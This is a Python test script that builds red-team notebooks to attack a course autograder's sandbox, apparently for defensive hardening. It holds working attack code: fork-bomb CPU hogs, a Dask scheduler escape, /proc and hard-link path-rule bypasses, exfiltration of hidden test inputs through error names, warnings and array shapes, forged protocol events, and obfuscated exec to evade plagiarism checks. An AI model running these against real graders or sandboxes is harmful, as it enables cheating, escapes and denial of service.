"""Builds the red team's notebooks from the solutions (or stubs): `python tests/redteam/make.py OUTDIR`.

Each attack is a base notebook plus cells inserted or functions replaced; the notebooks are
generated, not stored, so they follow the solutions as those change.
"""

from __future__ import annotations

import copy
import json
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]


def load(name: str, stub: bool = False) -> dict:
    folder = "assignments" if stub else "solutions"
    return json.loads((ROOT / folder / f"{name}.ipynb").read_text())


def code(src: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": src}


def with_cells(nb: dict, first: list[str] = (), last: list[str] = ()) -> dict:
    nb = copy.deepcopy(nb)
    cells = nb["cells"]
    nb["cells"] = [code(s) for s in first] + cells + [code(s) for s in last]
    return nb


def replace_def(nb: dict, name: str, new_src: str) -> dict:
    nb = copy.deepcopy(nb)
    for cell in nb["cells"]:
        src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if cell["cell_type"] == "code" and src.lstrip().startswith(f"def {name}("):
            cell["source"] = new_src
            return nb
    raise KeyError(name)


ATTACKS: dict[str, callable] = {}


def attack(fn):
    ATTACKS[fn.__name__] = fn
    return fn


HOG = r"""
import os, time
# Busy children, each in a session of its own (so autogroup gives each its own share), for the
# length of this cell; the runner kills them when the cell ends.
for _ in range({n}):
    if os.fork() == 0:
        try:
            os.setsid()
            x = 0
            while True:
                x += 1
        finally:
            os._exit(0)
time.sleep({seconds})
"""


@attack
def cpu_hog_04():
    """04 solution with two cells, each holding 150 busy processes for 25 s, before anything else."""
    return with_cells(load("04_optimizers"), first=[HOG.format(n=150, seconds=25)] * 2)


LEAK = r"""
def l1_penalty(theta):
    import numpy as np
    raise ValueError("LEAK " + np.array2string(np.asarray(theta), precision=17, separator=",", threshold=10**6))
"""


@attack
def leaks_hidden_inputs_05():
    """05 solution whose l1_penalty raises with its input in the message: feedback shows hidden inputs."""
    return replace_def(load("05_regularisation"), "l1_penalty", LEAK)


DASK = r"""
# At the no-namespace level the notebook shares the host's network: find the Dask scheduler the
# grader uses (its address is on the grader's or the worker's command line in /proc) and run a
# function on a worker, outside the sandbox, as the worker's user.
import os, re, socket
found = set()
for pid in os.listdir("/proc"):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as fh:
            cmd = fh.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        continue
    found.update(re.findall(r"tcp://[0-9.]+:\d+", cmd))
found.add("tcp://127.0.0.1:8786")
notes = [f"seen: {sorted(found)}"]


def _outside():
    import os, subprocess, pathlib, glob, json
    report = {"uid": os.getuid(), "id": subprocess.run(["id"], capture_output=True, text=True).stdout.strip()}
    sols = sorted(glob.glob("/work/*/solutions/05_regularisation.ipynb"))
    if sols:
        report["solution_bytes"] = len(pathlib.Path(sols[0]).read_bytes())
        report["solution_path"] = sols[0]
    pathlib.Path("/tmp/redteam-dask-pwned.json").write_text(json.dumps(report))
    return report


for address in sorted(found):
    try:
        from distributed import Client
        with Client(address, timeout=5) as client:
            # run_on_scheduler needs no free worker thread (a 1-thread worker is busy grading this)
            seen = client.run_on_scheduler(_outside)
            raise RuntimeError(f"ran outside the sandbox via {address}: {seen}")
    except RuntimeError:
        raise
    except Exception as exc:
        notes.append(f"{address}: {type(exc).__name__} {str(exc)[:150]}")
raise RuntimeError(f"no scheduler reached: {notes}")
"""


@attack
def dask_escape_05():
    """05 solution plus one cell that submits a task to the grader's Dask scheduler."""
    return with_cells(load("05_regularisation"), first=[DASK])


def _hidden(src: str) -> str:
    import base64
    import zlib

    blob = base64.b64encode(zlib.compress(src.encode())).decode()
    return f"import base64 as _b, zlib as _z\nexec(_z.decompress(_b.b64decode({blob!r})).decode())"


@attack
def copy_plain_05():
    """A classmate's 05 notebook copied as is (the similarity report's baseline)."""
    return load("05_regularisation")


@attack
def copy_hidden_05():
    """The same copy, every code cell run from a compressed string: the report sees one string."""
    nb = load("05_regularisation")
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
            cell["source"] = _hidden(src)
    return nb


LEFTOVER = r"""
# World-writable folders the cleanup does not list (shared.PLACES: /tmp, /var/tmp, /dev/shm,
# /run/lock, /dev/mqueue): anything else a pool uid can write escapes the quota and stays.
import os
kept = []
for root, dirs, files in os.walk("/var", onerror=None):
    if root.count("/") > 6:
        dirs[:] = []
        continue
    try:
        st = os.stat(root)
    except OSError:
        continue
    if st.st_mode & 0o002 and root not in ("/var/tmp",):
        try:
            path = os.path.join(root, "redteam-leftover.bin")
            with open(path, "wb") as fh:
                for _ in range(20):
                    fh.write(b"\0" * (1 << 20))
            kept.append(path)
        except OSError as exc:
            print(root, exc)
print("left behind:", kept)
"""


@attack
def leaves_files_outside_places_05():
    """05 solution plus a cell writing 20 MB into every world-writable folder under /var but /var/tmp."""
    return with_cells(load("05_regularisation"), first=[LEFTOVER])


CLIP_IN_PLACE = r"""
def clip_by_global_norm(grads, max_norm):
    # Clips the caller's own arrays in place (what the contract forbids) and returns them.
    global_norm = math.sqrt(sum(float(np.sum(np.asarray(g, dtype=float) ** 2)) for g in grads))
    factor = max_norm / max(global_norm, max_norm)
    for g in grads:
        if isinstance(g, np.ndarray) and g.dtype.kind == "f":
            g *= factor
    return tuple(np.asarray(g, dtype=float) for g in grads), global_norm
"""


@attack
def modifies_nested_input_01():
    """01 solution whose clip_by_global_norm scales the arrays of its list argument in place."""
    return replace_def(load("01_activations_and_initialisation"), "clip_by_global_norm", CLIP_IN_PLACE)


def _hidden_unnamed(src: str) -> str:
    import base64
    import zlib

    blob = base64.b64encode(zlib.compress(src.encode())).decode()
    # the builtin reached by a name built at run time: no `exec`, `eval` or `compile` in the cell's text
    return f"import base64 as _b, zlib as _z, builtins as _B\ngetattr(_B, 'ex' + 'ec')(_z.decompress(_b.b64decode({blob!r})).decode())"


@attack
def copy_hidden_unnamed_05():
    """The copy run from a compressed string through a builtin whose name is built at run time."""
    nb = load("05_regularisation")
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
            cell["source"] = _hidden_unnamed(src)
    return nb


SLEEPS = """
import time
time.sleep(3600)  # a hang that spends no CPU time
"""


@attack
def sleeps_04():
    """04 solution with three first cells that each sleep an hour: what a hang that spends no CPU costs a batch."""
    return with_cells(load("04_optimizers"), first=[SLEEPS] * 3)


PROBE_HOST = r"""
# What the no-namespace level still lets a cell reach; the findings travel in the cell's error.
import ctypes, glob, os, socket
seen = {}


def attempt(what, fn):
    try:
        seen[what] = fn()
    except Exception as exc:
        seen[what] = f"{type(exc).__name__}: {exc}"[:80]


def fds():
    out = {}
    for fd in os.listdir("/proc/self/fd"):
        try:
            out[fd] = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            pass
    return out


def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return s.sendto(b"x" * 100, ("127.0.0.1", 9))


def tcp():
    s = socket.create_connection(("127.0.0.1", 18786), timeout=3)
    return "connected"


def solutions():
    found = glob.glob("/work/*/solutions/*.ipynb") + glob.glob("/autograder/source/solutions/*.ipynb")
    return open(found[0]).read(20) if found else "none listed"


def leftover():
    with open("/var/cache/dnn-grader/warm-rootfs/tmp/redteam-leftover.bin", "wb") as fh:
        return fh.write(b"x" * 1000)


def sysv_queue():
    libc = ctypes.CDLL(None, use_errno=True)
    qid = libc.msgget(0x52454454, 0o1666)  # IPC_CREAT | 0666
    return qid if qid >= 0 else f"errno {ctypes.get_errno()}"


def grader_cmdline():
    out = []
    for pid in os.listdir("/proc"):
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ")
        except OSError:
            continue
        if b"autograder grade" in cmd:
            out.append(cmd.decode(errors="replace")[:120])
    return out[:2]


for what, fn in [("fds", fds), ("udp", udp), ("tcp", tcp), ("solutions", solutions), ("leftover", leftover),
                 ("sysv_queue", sysv_queue), ("grader_cmdline", grader_cmdline)]:
    attempt(what, fn)
raise RuntimeError(repr(seen))
"""


@attack
def probes_the_host_05():
    """05 solution plus one cell trying fds, UDP, TCP, the solutions, leftovers, SysV queues, /proc."""
    return with_cells(load("05_regularisation"), first=[PROBE_HOST])


LANDLOCK_BYPASS = r"""
# Ways around path rules: magic links in /proc, hard links, the parent's folders.
import glob, os
seen = {}
target = "/work/ci-check/solutions/05_regularisation.ipynb"
for what, path in [
    ("proc_self_root", "/proc/self/root" + target),
    ("proc_1_root", "/proc/1/root" + target),
    ("proc_ppid_cwd", f"/proc/{os.getppid()}/cwd"),
    ("proc_self_cwd_up", "/proc/self/cwd/../../../.."),
]:
    try:
        if os.path.isdir(path):
            seen[what] = sorted(os.listdir(path))[:5]
        else:
            with open(path) as fh:
                seen[what] = fh.read(30)
    except Exception as exc:
        seen[what] = f"{type(exc).__name__}: {exc}"[:70]
try:
    os.link(target, "hard-link.ipynb")
    seen["hard_link"] = open("hard-link.ipynb").read(30)
except Exception as exc:
    seen["hard_link"] = f"{type(exc).__name__}"
raise RuntimeError(repr(seen))
"""


@attack
def bypasses_landlock_05():
    """05 solution plus one cell trying /proc magic links and hard links to a readable-by-mode solution."""
    return with_cells(load("05_regularisation"), first=[LANDLOCK_BYPASS])


LEAK_TYPE = r"""
def l1_penalty(theta):
    import numpy as np
    # the input spelled in an exception class's name: survives hiding the message
    digits = "_".join(f"{v:.6e}".replace("-", "m").replace(".", "p").replace("+", "") for v in np.ravel(theta)[:12])
    raise type("LEAK_" + digits, (Exception,), {})()
"""


@attack
def leaks_hidden_inputs_in_type_names_05():
    """05 solution whose l1_penalty raises an exception class named after its input."""
    return replace_def(load("05_regularisation"), "l1_penalty", LEAK_TYPE)


LEAK_04 = r"""
def momentum_step(theta, grad, m, learning_rate, beta=0.9):
    import numpy as np
    raise ValueError("LEAK " + np.array2string(np.asarray(theta), precision=17, separator=",", threshold=10**6))
"""


@attack
def leaks_hidden_inputs_04():
    """04 solution whose momentum_step raises with its input (the Gradescope image grades 04)."""
    return replace_def(load("04_optimizers"), "momentum_step", LEAK_04)


@attack
def probes_the_host_04():
    """The host probe on the 04 solution (for the Gradescope image, which grades 04)."""
    return with_cells(
        load("04_optimizers"), first=[PROBE_HOST, LANDLOCK_BYPASS.replace("/work/ci-check", "/autograder/source")]
    )


LEAK_SHAPE = r"""
def l1_penalty(theta):
    import numpy as np
    t = np.ravel(np.asarray(theta, dtype=float))
    if t.size == 4 and t[0] == 1.0:  # the public case (its input is in the feedback): answer it
        return float(np.sum(np.abs(t)))
    # A hidden case: its input spelled in the *shape* of an empty answer. An array with a 0
    # dimension holds no values (no size cap applies), every other dimension is an integer of the
    # student's choice, numpy only asks that their product times 8 stays under 2**63. The feedback's
    # "wrong shape: got (0, a, b, n), expected ()" carries two inputs to 6 decimals and the size.
    v = list(t[:2]) + [0.0] * (2 - min(2, t.size))
    return np.zeros((0, 1 + round((v[0] + 50) * 1e6), 1 + round((v[1] + 50) * 1e6), 1 + min(t.size, 30)))
"""


@attack
def leaks_hidden_inputs_in_shapes_05():
    """05 solution whose l1_penalty returns an empty array whose dimensions spell its input."""
    return replace_def(load("05_regularisation"), "l1_penalty", LEAK_SHAPE)


FLOOD_EVENTS = r"""
# FORGER. The runner's event pipe is open in this very process (round 3 saw it as fd 4). The
# supervisor relays any event that follows the protocol's order, and the grader keeps every relayed
# event, whole, until the run ends: end this cell, then start and end each later (empty) cell
# ourselves, each event carrying ~250 KB. The cells' indices are in the job's in/cells.json.
import glob, json, os
fds = []
for f in os.listdir("/proc/self/fd"):
    try:
        if int(f) > 2 and os.readlink(f"/proc/self/fd/{f}").startswith("pipe:"):
            fds.append(int(f))
    except OSError:
        pass
spec = next(json.load(open(p)) for p in ["../in/cells.json", "in/cells.json", *glob.glob("/**/in/cells.json")] if os.path.exists(p))
indices = [c["index"] for c in spec["cells"]]
mine = next(c["index"] for c in spec["cells"] if "FORGER" in c["source"])
pad = "x" * (250 * 1024)


def send(item, kind):
    line = (json.dumps({"item": item, "event": kind, "status": "ok", "pad": pad}) + "\n").encode()
    while line:
        line = line[os.write(fds[0], line):]


send(f"cell:{mine}", "end")
for i in indices[indices.index(mine) + 1:]:
    send(f"cell:{i}", "start")
    send(f"cell:{i}", "end")
"""


def flood_events(cells: int) -> dict:
    nb = load("05_regularisation", stub=True)
    nb["cells"] = [code(FLOOD_EVENTS.replace("CELLS", str(cells)))] + [code("pass") for _ in range(cells)]
    return nb


@attack
def floods_events_05():
    """A notebook of 4,000 empty cells whose first cell forges every later cell's events, 250 KB each:
    about 2 GB the grader keeps in memory (the protocol allows up to 100,000 events: 25 GB)."""
    return flood_events(4000)


CRASH_COLLECT = r"""
# The known limit (runtime/supervisor.py): a cell can play the runner's side of the protocol to its
# end and hand over outputs of its own making. Here the outputs are an arrays.npz whose one member
# is flagged as encrypted (or needs a newer zip version): zipfile raises RuntimeError
# (NotImplementedError) where the collector expects ValueError, OSError or BadZipFile.
import io, json, os
import numpy as np
fd = None
for f in os.listdir("/proc/self/fd"):
    try:
        if int(f) > 2 and os.readlink(f"/proc/self/fd/{f}").startswith("pipe:"):
            fd = int(f)
    except OSError:
        pass
job = "/job" if os.path.exists("/job/in/calls.json") else os.path.dirname(os.getcwd())
calls = [c["id"] for c in json.load(open(f"{job}/in/calls.json"))]
cells = [c["index"] for c in json.load(open(f"{job}/in/cells.json"))["cells"]]
buf = io.BytesIO()
np.savez(buf, a=np.zeros(3))
data = bytearray(buf.getvalue())
data[data.rfind(b"PK\x01\x02") + 8] |= 1  # "encrypted", in the central directory
data[data.find(b"PK\x03\x04") + 6] |= 1  # and in the local header
with open(f"{job}/out/arrays.npz", "wb") as fh:
    fh.write(bytes(data))
with open(f"{job}/out/probe.json", "w") as fh:
    json.dump({"results": {c: {"ok": True, "value": {"$array": "a"}} for c in calls}}, fh)


def send(item, kind, **extra):
    os.write(fd, (json.dumps({"item": item, "event": kind, **extra}) + "\n").encode())


send(f"cell:{cells[-1]}", "end", status="ok")
for c in calls:
    send(f"probe:{c}", "start")
    send(f"probe:{c}", "end")
send("runner", "outputs")
os._exit(0)
"""


@attack
def crashes_the_collector_05():
    """05 solution whose last cell ends the protocol itself and leaves an arrays.npz flagged encrypted."""
    return with_cells(load("05_regularisation"), last=[CRASH_COLLECT])


# --- round 5 --------------------------------------------------------------------------------------

READ_HIDDEN = r"""
# The job's inputs file is readable from the first cell: every hidden case's arrays, keyed
# "<question>.h<n>". A cell's error reaches the feedback with its class name as it is (not filtered)
# and its message filtered for the hidden values' own decimal digits only.
import glob, os
import numpy as _np
_path = next(p for p in ["/job/in/inputs.npz", "../in/inputs.npz", *glob.glob("/**/in/inputs.npz")] if os.path.exists(p))
with _np.load(_path) as _d:
    _hidden = {k: _np.ravel(_d[k]).astype(float) for k in _d.files if k.startswith("sigmoid.h") and _d[k].size}
_vals = [_hidden[k][0] for k in sorted(_hidden, key=lambda k: int(k.split(".h")[1]))][:4]
_name = "LEAK_" + "_".join(repr(v).replace("-", "m").replace(".", "p") for v in _vals[:2])
raise type(_name, (Exception,), {})("times ten: " + " ".join(f"{10 * v:.8g}" for v in _vals))
"""

# The hidden-case line of a `warning_free` question names each warning in NumPy's own words, "in
# the order first seen", up to 4: which ufunc, which of four kinds, "scalar " or not, is the
# notebook's choice. Here: warning k (its kind says which) names ufunc U[s % 100] ("scalar " if
# s >= 100) for a symbol s: two digits of the input's first value (6 significant digits), then its
# exponent + 50 (+ 100 if negative), in every hidden case's line, while the answer itself is right.
WARNS_HIDDEN = r"""
def sigmoid(z):
    import warnings
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    out = np.asarray(np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e)), dtype=float)
    flat = z.ravel()
    if flat.size:
        U = sorted(n for n in dir(np) if isinstance(getattr(np, n), np.ufunc))[:100]
        mantissa, exponent = f"{abs(float(flat[0])):.5e}".split("e")
        d = mantissa.replace(".", "")
        symbols = [int(d[0:2]), int(d[2:4]), int(d[4:6]), int(exponent) + 50 + (100 if flat[0] < 0 else 0)]
        for kind, s in zip(["overflow", "underflow", "divide by zero", "invalid value"], symbols):
            warnings.warn(f"{kind} encountered in {'scalar ' if s >= 100 else ''}{U[s % 100]}", RuntimeWarning)
    return out
"""


@attack
def leaks_past_the_filter_01():
    """01 solution with a first cell that raises the hidden inputs (in its class name, and its
    message times ten) and a sigmoid that answers right while its warnings spell its input."""
    nb = replace_def(load("01_activations_and_initialisation"), "sigmoid", WARNS_HIDDEN)
    return with_cells(nb, first=[READ_HIDDEN])


# A cell that waits without spending CPU, but whose own processes make one another wait for a CPU:
# 120 children wake on the same 20 ms boundary, run a few microseconds each and sleep again. The
# watchdog counts every task's run delay as time the sandbox was starved, so the cell's wall clock
# is stretched as if a neighbour had taken the machine. The in-sandbox alarm is ignored (a cell may
# set any signal handler), so only the watchdog can end it.
STORM = r"""
import os, signal, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)
for _ in range({n}):
    if os.fork() == 0:
        try:
            while True:
                time.sleep(0.02 - time.time() % 0.02)
                x = 0
                for _ in range(50):
                    x += 1
        finally:
            os._exit(0)
time.sleep(3600)
"""
DEAF_SLEEP = r"""
import signal, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)
time.sleep(3600)  # the control: the same hang without the storm
"""


@attack
def storms_04():
    """04 solution with one first cell that hangs while 120 of its children wake at once, every 20 ms."""
    return with_cells(load("04_optimizers"), first=[STORM.format(n=120)])


@attack
def deaf_sleeps_04():
    """The control for storms_04: the same first cell without the children."""
    return with_cells(load("04_optimizers"), first=[DEAF_SLEEP])


def _rot13_module(sources: list[str]) -> str:
    import codecs

    text = codecs.encode("\n\n".join(sources), "rot13")
    # No runner, no reflection, no encoded-looking literal (the text keeps its spaces and does not
    # parse as Python), no ".py" in any constant: the file name is joined at run time.
    return (
        "import codecs, importlib, os, sys\n"
        f"open('.'.join(['helpers', 'py']), 'w').write(codecs.decode({text!r}, 'rot13'))\n"
        "sys.path.insert(0, os.getcwd())\n"
        "m = importlib.import_module('helpers')  # not an import statement: no module of that name is installed\n"
        "globals().update({k: v for k, v in vars(m).items() if not k.startswith('__')})\n"
    )


@attack
def copy_through_a_module_05():
    """The copy written as a module from a rot13 string and imported: one cell, nothing listed."""
    nb = load("05_regularisation")
    sources = []
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
            sources.append("\n".join(line for line in src.splitlines() if not line.lstrip().startswith(("%", "!"))))
    nb = copy.deepcopy(nb)
    nb["cells"] = [c for c in nb["cells"] if c["cell_type"] != "code"] + [code(_rot13_module(sources))]
    return nb


# Round 6. A hang whose own tasks take turns on one CPU: a burner pinned to CPU 0 runs the first
# 34 % of every 30 ms, and three waiters pinned to the same CPU at SCHED_IDLE wake 0.3 ms into each
# burst and wait (an idle-policy task never preempts a normal one on waking; EEVDF runs it when the
# burner's slice ends, so it queues again at once until the burst is over), then sleep to the next
# burst. Each waiter's run delay grows by a third of the wall
# clock, three of them sum to twice the longest, so `WaitClock` credits 2x the longest, and the
# only CPU spent is the burner's third of a core: the wall clock runs until the credit and the CPU
# time both give out, at 3x the item's limit (docs/limits.md says at most 2x).
TURNS = r"""
import os, signal, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)
PERIOD, BURN, LATE = 0.030, 0.0102, 0.0003
def _child(waiter):
    if os.fork():
        return
    try:
        os.sched_setaffinity(0, {{0}})
        if waiter:
            os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
        while True:
            phase = time.time() % PERIOD
            if waiter and LATE <= phase < BURN - 0.0005:
                time.sleep(0.0001)  # back in the queue at once: the burner's next slice
            elif waiter:
                time.sleep((PERIOD - phase + LATE) % PERIOD or PERIOD)  # wake inside the next burst
            elif phase < BURN:
                end = time.time() - phase + BURN
                while time.time() < end:
                    pass
            else:
                time.sleep(PERIOD - phase)
    finally:
        os._exit(0)
_child(False)
for _ in range({waiters}):
    _child(True)
time.sleep(3600)
"""


@attack
def takes_turns_04():
    """04 solution with one first cell that hangs while its own tasks take turns on one CPU."""
    return with_cells(load("04_optimizers"), first=[TURNS.format(waiters=3)])


# Round 6. Hidden inputs spelled past the filter, at full precision, in the always-visible part of
# the feedback: eight first cells each read the job's inputs file and raise, the class name (100
# characters kept) and the message (200 shown) spelling hidden inputs' float64 bits in CJK
# ideographs, 14 bits each (5 a value): no decimal digit for the filter to match. The feedback
# names up to 8 failed cells; a failed cell costs nothing, the rest of the notebook runs.
SPELL = r"""
import glob, os
import numpy as _np
_path = next(p for p in ["/job/in/inputs.npz", "../in/inputs.npz", *glob.glob("/**/in/inputs.npz")] if os.path.exists(p))
with _np.load(_path) as _d:
    _vals = [float(x) for k in sorted(k for k in _d.files if ".h" in k) if _d[k].dtype.kind == "f" for x in _np.ravel(_d[k])]
def _spell(vals):
    out = []
    for v in vals:
        n = int(_np.float64(v).view(_np.uint64))
        out += [chr(0x4E00 + ((n >> (14 * i)) & 0x3FFF)) for i in range(5)]
    return "".join(out)
_cell = {cell}
_first = _cell * 60
raise type(_spell(_vals[_first:_first + 20]), (Exception,), {{}})(_spell(_vals[_first + 20:_first + 60]))
"""


@attack
def spells_hidden_inputs_04():
    """04 solution with eight first cells raising hidden inputs spelled in CJK ideographs."""
    return with_cells(load("04_optimizers"), first=[SPELL.format(cell=i) for i in range(8)])


# Round 6. A sandbox's uid has a kernel keyring of its own (`@u`, keyctl), which outlives every
# process of the uid (kept per uid in the user namespace: no user namespace here, so the host's)
# and is not on the list of what a run leaves (`shared.py`). A key with "other" rights is listed in
# /proc/keys for every uid and readable by any of them. SysV semaphore sets are not removed either
# (shared.remove: segments only) where there is no IPC namespace.
KEY_LEAVE = r"""
import ctypes, os, time
_libc = ctypes.CDLL(None, use_errno=True)
_data = f"left by mallory, uid {os.getuid()}, at {time.time():.0f}".encode()
_key = _libc.syscall(248, b"user", b"redteam6-drop", _data, len(_data), -4)  # add_key to @u
_libc.syscall(250, 5, _key, 0x3F3F3F3F)  # KEYCTL_SETPERM: every right to everyone
_libc.semget(0x52454436, 1, 0o1666)  # and a SysV semaphore set (outlives the run without an IPC namespace)
"""
KEY_FIND = r"""
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_found = []
for _line in open("/proc/keys"):
    _f = _line.split()
    if "redteam6" in _line:
        _buf = ctypes.create_string_buffer(200)
        _n = _libc.syscall(250, 11, int(_f[0], 16), _buf, 200)  # KEYCTL_READ
        _found.append(f"{_f[5]}:{_f[8]} {_buf.raw[:max(_n, 0)].decode()!r}")
_sems = [l.split()[:4] for l in open("/proc/sysvipc/sem") if l.split()[0] == str(0x52454436)]
raise RuntimeError(f"keys seen: {_found}; semaphore sets seen (key semid perms nsems): {_sems}")
"""


@attack
def leaves_a_key_05():
    """05 solution plus a cell leaving a world-readable key in its uid's user keyring."""
    return with_cells(load("05_regularisation"), first=[KEY_LEAVE])


@attack
def finds_keys_05():
    """05 solution plus a cell listing every key an earlier run left (its error says what it read)."""
    return with_cells(load("05_regularisation"), first=[KEY_FIND])


# Round 6. The watchdog walks the job's writable folders every 0.5 s for the disk quota, up to
# 100,000 entries, in the grader's process: outside the sandbox's CPU share and CPU time. Empty
# files cost no disk, so 89,910 of them (3 CPU-s once; with the job's own files, under the 100,000
# a walk counts as over the quota) are walked again and again for as long as the hang lasts.
MANY_FILES = r"""
import os, signal, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)
for d in range(90):
    os.mkdir(f"walk{d}")
    for i in range(999):
        open(f"walk{d}/{i}", "w").close()
time.sleep(3600)
"""


@attack
def walks_the_watchdog_04():
    """04 solution with one first cell that leaves 89,910 empty files in its folder and hangs."""
    return with_cells(load("04_optimizers"), first=[MANY_FILES])


if __name__ == "__main__":
    out = Path(sys.argv[1])
    out.mkdir(parents=True, exist_ok=True)
    wanted = sys.argv[2:] or list(ATTACKS)
    for name in wanted:
        (out / f"{name}.ipynb").write_text(json.dumps(ATTACKS[name](), indent=1))
        print(out / f"{name}.ipynb")
